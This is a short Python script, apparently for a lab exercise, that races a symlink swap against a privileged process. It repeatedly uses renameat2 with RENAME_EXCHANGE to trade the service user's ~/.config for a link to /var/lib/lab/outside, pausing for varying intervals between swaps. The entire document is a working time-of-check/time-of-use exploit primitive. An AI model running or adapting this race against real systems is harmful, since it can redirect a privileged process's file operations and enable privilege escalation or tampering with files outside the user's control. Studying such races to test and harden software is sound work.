"""As the service user: exchanges ~/.config for a link that leads outside, again and again.

swaps.py COUNT: prints the count at its end, with everything in its place again.
"""
import ctypes
import os
import sys

EXCHANGE, HERE = 2, -100
renameat2 = ctypes.CDLL(None, use_errno=True).renameat2


def exchange(one, other):
    if renameat2(HERE, one.encode(), HERE, other.encode(), EXCHANGE) != 0:
        raise OSError(ctypes.get_errno(), f"{one} <-> {other}")


def main(count):
    os.chdir(os.path.expanduser("~"))
    os.symlink("/var/lib/lab/outside", ".other")
    for number in range(count // 2):
        exchange(".config", ".other")
        exchange(".config", ".other")
        # Now and then the program gets on.
        for _ in range(number % 50 * 40):
            pass
    os.unlink(".other")
    print(count)


main(int(sys.argv[1]))
